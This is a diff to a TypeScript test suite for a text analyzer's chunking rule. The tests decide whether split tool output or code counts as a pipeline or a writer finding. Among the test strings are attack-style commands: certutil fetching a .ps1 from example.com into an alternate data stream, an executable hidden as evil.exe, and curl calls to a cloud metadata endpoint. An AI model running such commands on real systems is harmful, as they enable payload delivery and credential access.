@@ -9,8 +9,8 @@ import { analyzeText, readFixture } from '../../../helpers/analyzeText';
 const budgets = { maxTokens: 60, targetTokens: 40, minTokens: 1, overlapTokens: 0 };
 const lines = (n: number, line: (i: number) => string) => Array.from({ length: n }, (_, i) => line(i)).join('\n');
 
-function findings(text: string, ruleId: string) {
-  const a = analyzeText(text, { budgets });
+function findings(text: string, ruleId: string, caps = budgets) {
+  const a = analyzeText(text, { budgets: caps });
   return { writer: a.findings.filter((f) => f.ruleId === ruleId), pipeline: a.pipelineFindings.filter((f) => f.ruleId === ruleId) };
 }
 
@@ -65,15 +65,19 @@ describe('recorded output split across chunks is the pipeline\'s', () => {
 });
 
 describe('real recordings the cap cuts are the pipeline\'s (test/fixtures/ck006)', () => {
-  const excerpts: Array<[string, string, RegExp]> = [
+  // A cap that holds the longest line of most of these excerpts (a banner, a row) and none of their blocks; a short excerpt keeps the small cap.
+  const wide = { ...budgets, maxTokens: 150, targetTokens: 100 };
+  const excerpts: Array<[string, string, RegExp, typeof budgets?]> = [
     ['a k6 end-of-test summary after its ASCII-art banner (k6-docs using-k6-browser)', 'k6-end-of-test-summary.md', /an end-of-run summary: metrics behind dot leaders/],
     ['an nmap report saved without its command (HackTricks CPTS nmap.md)', 'nmap-report.md', /a program's report: it opens with a header only the program prints/],
     ['objdump\'s section headers after the command that printed them (HackTricks elf-tricks.md)', 'objdump-section-headers.md', /a program's report/],
+    ['a Bus Pirate session: mode prompts (`I2C>v`, `(1)>4`), what the device printed, `#` notes between (HackTricks i2c.md)', 'bus-pirate-session.md', /an annotated session/],
+    ['an lldb session behind a note (HackTricks arm64-basic-assembly.md)', 'lldb-session.md', /an annotated session/, budgets],
     ['a PowerShell table (a header row, a rule of dashes, a row per command) after its command (HackTricks laps.md)', 'powershell-table.md', /a program's printed records/],
   ];
-  for (const [name, file, kind] of excerpts) {
+  for (const [name, file, kind, caps = wide] of excerpts) {
     it(`${name} is a pipeline finding naming the recording`, () => {
-      const { writer, pipeline } = findings(readFixture('ck006', file), 'CK006');
+      const { writer, pipeline } = findings(readFixture('ck006', file), 'CK006', caps);
       assert.deepEqual(writer, []);
       assert.equal(pipeline.length, 1);
       assert.match(pipeline[0].pipeline!.cause, kind);
@@ -88,6 +92,8 @@ describe('split code that is no recording stays the writer\'s', () => {
     ['a cheat sheet of commands with their comments', `\`\`\`bash\n${lines(30, (i) => `curl -s -H "Metadata-Flavor:Google" http://metadata/v1/project/${i} # attribute ${i}`)}\n\`\`\``],
     ['Python code holding numbers', `\`\`\`python\n${lines(30, (i) => `weights[${i}] = scale(${i}, 0.${i}, offset=${i * 16})`)}\n\`\`\``],
     ['a shell excerpt behind comments', `\`\`\`bash\n# install the tools\n${lines(30, (i) => `apt-get install -y tool-${i}`)}\n\`\`\``],
+    ['a cheat sheet of commands under notes, a few behind a prompt (`C:\\> type …`), most bare', `\`\`\`bash\n${lines(10, (i) => `# Step ${i} of the recipe\nC:\\temp> type file${i}.exe > "C:\\Program Files\\log${i}.txt:evil.exe"\n# and then\ncertutil.exe -urlcache -split -f https://example.com/${i}.ps1 c:\\temp:t${i}\ndir /R c:\\dir${i}`)}\n\`\`\``],
+    ['PowerShell parameters typed in brackets (`[String]$Mode,`), no prompts', `\`\`\`powershell\nparam(\n${lines(30, (i) => `    [String]$Param${i},\n    # parameter ${i}`)}\n)\n\`\`\``],
     ['a tool\'s version banner followed by C code', `\`\`\`c\nImpacket v0.9.24 - Copyright 2021 SecureAuth Corporation\n${lines(30, (i) => `int value${i} = compute(${i});`)}\n\`\`\``],
         ['JavaScript that spreads and elides (`...args`, `// ...`)', `\`\`\`js\n${lines(30, (i) => `call${i}(...args); // ... and then step ${i}`)}\n\`\`\``],
   ];
